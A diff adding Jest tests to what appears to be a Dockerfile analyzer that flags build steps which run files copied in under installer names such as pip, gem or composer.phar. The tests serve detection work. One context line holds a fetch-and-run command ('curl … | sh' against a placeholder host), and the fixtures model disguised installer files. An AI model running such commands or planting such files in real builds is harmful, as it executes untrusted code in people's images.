@@ -207,3 +207,40 @@ describe('ONBUILD steps of a base', () => {
     expect(analysisOf('FROM x\nONBUILD RUN curl https://e.example/x | sh').unread).toEqual([]);
   });
 });
+
+describe('a file that the build itself brought is not what its name says', () => {
+  const files = {
+    'x/pip.py': 'import evil\n',
+    'x/ok.py': 'import json\n',
+    'x/c.phar': '<?php system("evil");',
+    'pip/__main__.py': 'import evil\n',
+  };
+
+  test.each([
+    [
+      'COPY x/pip.py /opt/pip.py\nRUN python3 /opt/pip.py install requests==2.32.3',
+      ['3 /opt/pip.py'],
+    ],
+    ['COPY x/ /opt/\nRUN python3 /opt/pip.py install requests==2.32.3', ['3 /opt/pip.py']],
+    ['COPY x/pip.py /usr/bin/pip3\nRUN python3 /usr/bin/pip3 install a==1', ['3 /usr/bin/pip3']],
+    ['COPY x/pip.py /opt/npm-cli.js\nRUN node /opt/npm-cli.js ci', ['3 /opt/npm-cli.js']],
+    ['COPY x/pip.py /usr/bin/gem\nRUN ruby /usr/bin/gem install a -v 1.0.0', ['3 /usr/bin/gem']],
+    [
+      'COPY x/c.phar /opt/composer.phar\nRUN php /opt/composer.phar install',
+      ['3 /opt/composer.phar'],
+    ],
+    ['WORKDIR /a\nCOPY . .\nRUN python -m pip install a==1', ['4 /a/pip/__main__.py']],
+    ['COPY x/pip.py /a/venv.py\nWORKDIR /a\nRUN python3 -m venv /v', ['4 /a/venv.py']],
+    ['COPY x/ok.py /opt/pip.py\nRUN python3 /opt/pip.py install x', []],
+    ['COPY x /app\nRUN python3 /usr/bin/pip3 install a==1', []],
+    ['RUN python3 /opt/venv/bin/pip install a==1', []],
+  ])('%j', (run, expected) => {
+    expect(unread(run, files)).toEqual(expected);
+  });
+
+  test('a context that is not at hand may have brought it, but for folders that installers fill', () => {
+    expect(unread('COPY x /opt\nRUN python3 /opt/pip.py install a==1')).toEqual(['3 /opt/pip.py']);
+    expect(unread('COPY . /opt/app\nRUN python3 /opt/app/v/bin/pip install a==1')).toEqual([]);
+    expect(unread('WORKDIR /a\nCOPY . .\nRUN python -m pip install a==1')).toEqual([]);
+  });
+});
